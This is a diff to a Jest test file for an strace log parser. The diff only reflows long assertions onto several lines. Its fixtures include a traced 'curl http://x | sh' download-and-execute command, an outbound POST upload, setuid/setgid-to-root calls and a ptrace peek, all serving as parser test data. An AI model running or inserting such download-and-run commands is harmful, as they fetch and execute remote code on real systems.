@@ -129,7 +129,11 @@ describe('strings', () => {
       '30 1.0 execve("/bin/sh", ["sh", "-c", "curl http://x | sh; echo aaaa"...], ["A=1", "B=2"...]) = 0',
       '30 1.1 sendto(3<TCP:[1.2.3.4:1->5.6.7.8:80]>, "POST /upload HTTP/1.1\\r\\n"..., 9000, 0, NULL, 0) = 9000',
     );
-    expect(ofType(events, 'exec')[0]).toMatchObject({ argv: ['sh', '-c', 'curl http://x | sh; echo aaaa'], env: ['A=1', 'B=2'], truncated: true });
+    expect(ofType(events, 'exec')[0]).toMatchObject({
+      argv: ['sh', '-c', 'curl http://x | sh; echo aaaa'],
+      env: ['A=1', 'B=2'],
+      truncated: true,
+    });
     const send = ofType(events, 'send')[0]!;
     expect(String.fromCharCode(...send.data!)).toBe('POST /upload HTTP/1.1\r\n');
     expect(send).toMatchObject({ dataTruncated: true, size: 9000, destination: { family: 'AF_INET', address: '5.6.7.8', port: 80 } });
@@ -153,7 +157,11 @@ describe('strings', () => {
     );
     expect(stats.unknown).toBe(0);
     const [first, third] = ofType(events, 'open');
-    expect(first).toMatchObject({ path: '/tmp/a,b) = 0/x) = 3</y> <unfinished ...>', fd: 4, resolvedPath: '/tmp/a,b) = 0/x) = 3<y> <unfinished ...>' });
+    expect(first).toMatchObject({
+      path: '/tmp/a,b) = 0/x) = 3</y> <unfinished ...>',
+      fd: 4,
+      resolvedPath: '/tmp/a,b) = 0/x) = 3<y> <unfinished ...>',
+    });
     expect(ofType(events, 'exec')[0]!.argv).toEqual(['echo', '[{"a": 1}]', '--- SIG ---']);
     expect(third).toMatchObject({ path: '/srv/->x/f', resolvedPath: '/srv/->x/f' });
   });
@@ -168,7 +176,12 @@ describe('errors and odd return values', () => {
     );
     expect(events.map((e) => e.result)).toEqual([
       { status: 'error', errno: 'EACCES', message: 'Permission denied', raw: '-1 EACCES (Permission denied)' },
-      { status: 'error', errno: 'ERESTARTSYS', message: 'To be restarted if SA_RESTART is set', raw: '? ERESTARTSYS (To be restarted if SA_RESTART is set)' },
+      {
+        status: 'error',
+        errno: 'ERESTARTSYS',
+        message: 'To be restarted if SA_RESTART is set',
+        raw: '? ERESTARTSYS (To be restarted if SA_RESTART is set)',
+      },
       { status: 'error', errno: 'EINPROGRESS', message: 'Operation now in progress', raw: '-1 EINPROGRESS (Operation now in progress)' },
     ]);
   });
@@ -358,7 +371,9 @@ describe('processes', () => {
       '95 1.1 setresgid(-1, -1, 0) = 0',
       '95 1.2 ptrace(PTRACE_PEEKDATA, 1, 0x7ffc, [0x1]) = 0',
     );
-    expect(events.map((e) => (e.type === 'setid' ? [e.syscall, e.idKind, e.ids] : e.type === 'ptrace' ? [e.request, e.targetPid] : []))).toEqual([
+    expect(
+      events.map((e) => (e.type === 'setid' ? [e.syscall, e.idKind, e.ids] : e.type === 'ptrace' ? [e.request, e.targetPid] : [])),
+    ).toEqual([
       ['setreuid', 'uid', [-1, 0]],
       ['setresgid', 'gid', [-1, -1, 0]],
       ['PTRACE_PEEKDATA', 1],
